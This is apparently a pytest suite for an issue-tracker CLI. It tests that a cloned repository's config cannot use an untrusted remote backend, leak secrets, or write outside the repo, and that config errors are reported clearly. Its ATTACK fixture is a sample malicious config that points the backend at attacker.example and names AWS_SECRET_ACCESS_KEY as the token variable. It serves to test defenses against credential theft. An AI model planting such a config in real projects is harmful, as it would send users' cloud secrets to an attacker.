"""A cloned repository's config is not trusted; config mistakes are reported, not silent."""

from __future__ import annotations

import json
import subprocess
import textwrap
from pathlib import Path

import pytest

from issue_core.core.config import Config, UntrustedBackend

ATTACK = """
default_backend = "work"
[backends.work]
type = "gitea"
url = "https://attacker.example"
owner = "a"
repo = "b"
token_env = "AWS_SECRET_ACCESS_KEY"
"""
HEX_TOKEN = "a3f9c2" * 6 + "abcd"


def repo_config(git_project: Path, text: str) -> None:
    folder = git_project / ".issue-core"
    folder.mkdir(exist_ok=True)
    (folder / "config.toml").write_text(textwrap.dedent(text))


def test_a_cloned_repos_remote_backend_is_refused_until_trusted(issue, git_project, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "do-not-send")
    repo_config(git_project, ATTACK)
    result = issue("list")
    assert result.exit_code == 5
    line = result.stderr.strip()
    assert len(line.splitlines()) == 1
    assert "https://attacker.example" in line and "AWS_SECRET_ACCESS_KEY" in line
    assert "issue backend trust work" in line and "do-not-send" not in result.output
    listed = json.loads(issue("backend", "list", "--format", "json").stdout)
    assert {row["name"]: row["trust"] for row in listed} == {
        "local": "not needed",
        "work": "untrusted",
    }
    assert issue("backend", "test").exit_code == 5

    assert issue("backend", "trust", "work").exit_code == 0
    listed = json.loads(issue("backend", "list", "--format", "json").stdout)
    assert [row["trust"] for row in listed if row["name"] == "work"] == ["trusted"]
    # A trusted entry is opened (and fails on the network, not on trust).
    assert Config.load().resolve("work").trust == "trusted"

    # Changing the URL or the variable needs trusting again.
    repo_config(git_project, ATTACK.replace("attacker.example", "other.example"))
    result = issue("list")
    assert result.exit_code == 5 and "changed since you trusted it" in result.stderr
    repo_config(git_project, ATTACK.replace("AWS_SECRET_ACCESS_KEY", "HOME"))
    assert issue("list").exit_code == 5


def test_the_python_api_and_the_server_pool_refuse_it_too(git_project):
    from issue_core import open_backend
    from issue_core.server.delivery import BackendPool

    repo_config(git_project, ATTACK)
    with pytest.raises(UntrustedBackend):
        open_backend()
    config = Config.load()
    pool = BackendPool({"work": config.resolve("work")}, "tester")
    with pytest.raises(UntrustedBackend):
        pool.get("work")


def test_a_repo_config_cannot_trust_itself(issue, git_project):
    root = str(git_project.resolve())
    digest = Config.load().resolve().digest()  # anything: the record is ignored in a repo file
    repo_config(
        git_project,
        ATTACK + f'\n[trusted."{root}".work]\ndigest = "{digest}"\n',
    )
    result = issue("list")
    assert result.exit_code == 5
    assert "'trusted' is ignored here" in result.stderr


def test_a_local_store_inside_the_repo_needs_no_trust_but_outside_does(issue, git_project):
    repo_config(git_project, 'default_backend = "l"\n[backends.l]\ntype = "local"\npath = "x.db"\n')
    assert issue("create", "inside").exit_code == 0
    repo_config(
        git_project,
        'default_backend = "l"\n[backends.l]\ntype = "local"\npath = "~/.ssh/issues.db"\n',
    )
    result = issue("create", "outside")
    assert result.exit_code == 5 and "issue backend trust l" in result.stderr
    (git_project / "link").symlink_to(git_project.parent)
    repo_config(
        git_project,
        'default_backend = "l"\n[backends.l]\ntype = "local"\npath = "link/escaped.db"\n',
    )
    assert issue("list").exit_code == 5
    assert not (git_project.parent / "escaped.db").exists()


@pytest.mark.parametrize(
    ("url", "extra", "code"),
    [
        ("http://gitea.example", "", 2),
        ("http://gitea.example", "allow_http = true", 5),  # allowed, then untrusted
        ("http://127.0.0.5:3000", "", 5),
        ("http://localhost:3000", "", 5),
        ("http://[::1]:3000", "", 5),
        ("https://user:secret@gitea.example", "", 2),
    ],
)
def test_plain_http_and_credentials_in_urls_at_load(issue, git_project, url, extra, code):
    repo_config(git_project, ATTACK.replace("https://attacker.example", url) + extra)
    result = issue("list")
    assert result.exit_code == code, result.output
    assert "secret" not in result.stderr


@pytest.mark.parametrize(
    ("url", "flags", "code"),
    [
        ("http://gitea.example", [], 2),
        ("http://gitea.example", ["--allow-http"], 0),
        ("http://127.0.0.1:3000", [], 0),
        ("https://user:secret@gitea.example", [], 2),
    ],
)
def test_plain_http_and_credentials_in_urls_at_add(issue, git_project, url, flags, code):
    args = ["backend", "add", "w", "gitea", "--url", url, "--owner", "a", "--repo", "b"]
    result = issue(*args, *flags)
    assert result.exit_code == code, result.output
    assert "secret" not in result.output
    stored = git_project / ".issue-core" / "config.toml"
    assert stored.exists() == (code == 0)


@pytest.mark.parametrize(
    "token",
    [HEX_TOKEN, "ghp_" + "A1b2" * 9, "gho_" + "x1" * 18, "github_pat_11ABC_" + "z9" * 20,
     "glpat-" + "x" * 20, "has space"],
)  # fmt: skip
def test_token_looking_token_env_is_refused_and_never_shown(issue, git_project, token):
    args = ["backend", "add", "w", "gitea", "--url", "https://g.example", "--owner", "a"]
    result = issue(*args, "--repo", "b", "--token-env", token)
    assert result.exit_code == 2 and token not in result.output
    repo_config(git_project, ATTACK.replace("AWS_SECRET_ACCESS_KEY", token))
    for command in (["list"], ["backend", "list"], ["backend", "test"], ["--debug", "list"]):
        result = issue(*command)
        assert result.exit_code == 2, command
        assert token not in result.output and "token_env" in result.stderr


def test_unknown_keys_warn_with_the_likely_key(issue, git_project):
    repo_config(
        git_project,
        'default_backend = "l"\nlabels = { create = "never" }\n'
        '[backends.l]\ntype = "local"\npaht = "x.db"\n',
    )
    result = issue("list")
    assert result.exit_code == 0
    assert sum("warning" in line for line in result.stderr.splitlines()) == 1
    assert "'backends.l.paht'" in result.stderr and "did you mean 'path'?" in result.stderr
    with pytest.warns(UserWarning, match="paht"):
        assert Config.load().labels_create() == "never"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("default_backend = 5\n", ["'default_backend'", "must be a string"]),
        ('[backends.l]\ntype = "local"\npath = 5\n', ["'backends.l.path'", "a string"]),
        ('[labels]\ncreate = "sometimes"\n', ["'labels.create'", '"auto" or "never"']),
        ('[backends.g]\ntype = "gitea"\nverify_tls = "no"\n', ["verify_tls", "true or false"]),
    ],
)
def test_wrong_types_name_the_key_and_the_file(issue, git_project, text, words):
    repo_config(git_project, text)
    result = issue("list")
    assert result.exit_code == 2
    assert all(word in result.stderr for word in words) and "config.toml" in result.stderr


def test_a_bad_store_path_is_reported_as_such(issue, git_project):
    (git_project / "afile").write_text("x")
    repo_config(git_project, 'default_backend = "l"\n[backends.l]\ntype = "local"\npath = "."\n')
    result = issue("list")
    assert result.exit_code == 2 and "is a directory" in result.stderr
    repo_config(
        git_project, 'default_backend = "l"\n[backends.l]\ntype = "local"\npath = "afile/x.db"\n'
    )
    result = issue("create", "x")
    assert result.exit_code == 2 and "inside a file" in result.stderr
    assert "not connected" not in result.stderr


@pytest.mark.parametrize("value", [" ", "bob smith", "bob\n", "bo\x1bb", "\tbob"])
def test_identity_with_blanks_or_control_characters_is_refused(issue, git_project, value):
    result = issue("list", env={"ISSUE_CORE_USER": value})
    assert result.exit_code == 2 and "ISSUE_CORE_USER" in result.stderr
    repo_config(git_project, f"user = {json.dumps(value)}\n")
    result = issue("list", env={"ISSUE_CORE_USER": ""})
    assert result.exit_code == 2 and "'user'" in result.stderr


# --------------------------------------------------------------------------- worktrees


def git(*args: str, cwd: Path) -> None:
    subprocess.run(
        ["git", "-c", "protocol.file.allow=always", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t",
             "GIT_COMMITTER_EMAIL": "t@x", "PATH": "/usr/bin:/bin", "HOME": str(cwd)},
    )  # fmt: skip


def test_worktrees_share_the_main_checkouts_store_and_submodules_keep_theirs(
    issue, git_project, monkeypatch, tmp_path
):
    git("commit", "-q", "--allow-empty", "-m", "init", cwd=git_project)
    worktree = tmp_path / "wt"
    git("worktree", "add", "-q", str(worktree), cwd=git_project)
    assert issue("create", "from main").exit_code == 0
    monkeypatch.chdir(worktree / ".")
    listed = json.loads(issue("list", "--format", "json").stdout)
    assert [row["title"] for row in listed] == ["from main"]
    assert Config.load().root_dir == str(git_project.resolve())

    sub_origin = tmp_path / "sub-origin"
    sub_origin.mkdir()
    git("init", "-q", cwd=sub_origin)
    git("commit", "-q", "--allow-empty", "-m", "sub", cwd=sub_origin)
    git("submodule", "add", "-q", str(sub_origin), "sub", cwd=git_project)
    submodule = git_project / "sub"
    assert (submodule / ".git").is_file()
    assert Config.load(submodule).root_dir == str(submodule.resolve())
    sub_worktree = tmp_path / "sub-wt"
    git("worktree", "add", "-q", str(sub_worktree), cwd=submodule)
    assert Config.load(sub_worktree).root_dir == str(submodule.resolve())
    monkeypatch.chdir(submodule)
    assert json.loads(issue("list", "--format", "json").stdout) == []


def test_a_backend_you_add_to_the_repo_is_trusted_for_you_only(issue, git_project, monkeypatch):
    args = ["backend", "add", "w", "gitea", "--url", "https://g.example", "--owner", "a"]
    assert issue(*args, "--repo", "b", "--default").exit_code == 0
    assert Config.load().resolve().trust == "trusted"
    # Someone else cloning the repository (another user config) has not trusted it.
    monkeypatch.setenv("ISSUE_CORE_CONFIG_DIR", str(git_project.parent / "someone-else"))
    result = issue("list")
    assert result.exit_code == 5 and "issue backend trust w" in result.stderr


@pytest.mark.parametrize(
    "name",
    ["GITEA_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "FORGE_TOKEN", "my_token_2", "CI_JOB_TOKEN",
     "GITLAB_TOKEN", "T"],
)  # fmt: skip
def test_ordinary_variable_names_are_accepted(name):
    from issue_core.core.config_checks import is_env_name

    assert is_env_name(name)


def test_issue_serve_refuses_an_untrusted_default_before_starting(git_project):
    import os
    import sys

    repo_config(git_project, ATTACK)
    env = {k: v for k, v in os.environ.items() if not k.startswith("ISSUE_CORE_")}
    env["ISSUE_CORE_CONFIG_DIR"] = str(git_project.parent / "config")
    result = subprocess.run(
        [sys.executable, "-m", "issue_core.cli.main", "serve", "--no-auth", "--port", "0"],
        cwd=git_project,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 5
    assert "issue backend trust work" in result.stderr
